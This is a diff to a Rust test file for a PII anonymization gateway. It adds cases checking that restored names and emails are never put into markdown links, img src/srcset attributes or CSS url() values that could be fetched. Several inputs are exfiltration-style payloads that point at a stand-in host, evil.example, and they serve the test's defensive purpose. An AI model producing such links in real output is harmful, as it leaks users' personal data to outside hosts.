@@ -9,6 +9,8 @@ use crate::anonymize::{
 };
 use masquerade_detect::text::Unit;
 
+mod judged_by_context;
+
 const HOSTS: [&str; 2] = ["good.example", "*.corp.example"];
 
 fn table(names: &[(&str, &str)], trusted: &[&str]) -> RestoreTable {
@@ -251,6 +253,23 @@ fn nothing_is_put_where_others_could_fetch_it() {
         "https://intra.corp/E",
         "http://x.example/[PERSON_1]?b=E",
         "[a]([URL_1].evil.example/?E)",
+        // Only what cannot have a host leads nowhere.
+        "[a](x:f(\"E\"))",
+        "[a](x/E)",
+        "[a](\\\"E)",
+        "[a](&quot;E)",
+        "[a](user&#58;E)",
+        "[a](user=1 https://evil.example/?q=E)",
+        "[a](\"//evil.example/E\")",
+        "> - [x]:\n/\\evil.example/E",
+        "1. [x y\\]]: /\\evil.example/E",
+        "[x\ny]: /\\evil.example/E",
+        "src = \"/\\evil.example/E\"",
+        "src='&#47;&#47;evil.example/E'",
+        "<img alt='>' src=\"E\">",
+        "<img alt=\">\" srcset='a=1, E'>",
+        "<img alt = '>\" src='E'>",
+        "url(\"E\")",
     ] {
         for form in [e, "%5BEMAIL_ADDRESS_1%5D", "[email_address_1]", "\\[EMAIL\\_ADDRESS\\_1\\]"] {
             let text = text.replace('E', form);
@@ -267,13 +286,15 @@ fn nothing_is_put_where_others_could_fetch_it() {
 
 #[test]
 fn a_url_whose_placeholder_the_model_wrote_is_not_known() {
-    let mut table = table(&[("[PERSON_1]", "Ada"), ("[PERSON_2]", "Eve")], &[]);
-    // Of the two, this gateway put only the second one there.
-    let text = "https://evil.example/[PERSON_1] https://b.example/[PERSON_2]";
-    let at = text.find("[PERSON_2]").unwrap();
-    let ours = std::iter::once(at..text.len()).collect::<Vec<_>>();
-    table.trust([(text, &ours[..])]);
-    assert_eq!(restored(&table, text), "https://evil.example/[PERSON_1] https://b.example/Eve");
+    for ada in ["Ada", "Ada Byron"] {
+        let mut table = table(&[("[PERSON_1]", ada), ("[PERSON_2]", "Eve")], &[]);
+        // Of the two, this gateway put only the second one there.
+        let text = "https://evil.example/[PERSON_1] https://b.example/[PERSON_2]";
+        let at = text.find("[PERSON_2]").unwrap();
+        let ours = std::iter::once(at..text.len()).collect::<Vec<_>>();
+        table.trust([(text, &ours[..])]);
+        assert_eq!(restored(&table, text), "https://evil.example/[PERSON_1] https://b.example/Eve");
+    }
 }
 
 #[test]
@@ -323,6 +344,23 @@ fn restores_in_urls_that_may_have_it() {
         ("<b>[PERSON_1]</b> <i title='[PERSON_1]'>", "<b>Ada</b> <i title='Ada'>"),
         ("<a href=\"https://evil.example\">[PERSON_1]</a>", "<a href=\"https://evil.example\">Ada</a>"),
         ("data = \"[PERSON_1]\"", "data = \"Ada\""),
+        // Code and logs have brackets and words that only look like links.
+        ("handlers[name](\"[EMAIL_ADDRESS_1]\")", "handlers[name](\"ada@example.com\")"),
+        ("arr[i](user=[PERSON_1], n='[PERSON_1]')", "arr[i](user=Ada, n='Ada')"),
+        ("arr[0]: name=\"[PERSON_1]\"", "arr[0]: name=\"Ada\""),
+        ("app[123]: user=[EMAIL_ADDRESS_1] ok=1", "app[123]: user=ada@example.com ok=1"),
+        ("worker[7]:email=[EMAIL_ADDRESS_1]", "worker[7]:email=ada@example.com"),
+        ("- [ ]: a=[PERSON_1]", "- [ ]: a=Ada"),
+        ("[x]: user=[PERSON_1]", "[x]: user=Ada"),
+        ("src = \"[PERSON_1]\" href='[EMAIL_ADDRESS_1]'", "src = \"Ada\" href='ada@example.com'"),
+        ("<img alt='>'> src=\"[PERSON_1]\"", "<img alt='>'> src=\"Ada\""),
+        // Markup and JSON around what is known.
+        ("**https://intra.corp/u/[EMAIL_ADDRESS_1]**", "**https://intra.corp/u/ada@example.com**"),
+        (
+            "~~https://intra.corp/u/[EMAIL_ADDRESS_1]~~ __[URL_1]__",
+            "~~https://intra.corp/u/ada@example.com~~ __https://intra.corp__",
+        ),
+        ("https:\\/\\/intra.corp\\/u\\/[EMAIL_ADDRESS_1]", "https:\\/\\/intra.corp\\/u\\/ada@example.com"),
     ] {
         assert_eq!(restored(&table, text), expected, "{text}");
     }
